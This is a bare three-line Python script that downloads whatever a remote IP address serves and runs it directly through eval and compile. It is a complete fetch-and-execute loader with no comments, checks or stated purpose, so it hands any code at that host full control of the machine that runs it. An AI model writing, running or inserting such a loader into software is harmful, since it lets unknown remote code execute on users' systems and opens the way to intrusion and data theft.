from urllib.request import urlopen
with urlopen("http://203.0.113.4/a") as page:
    eval(compile(page.read(), "a", "exec"))
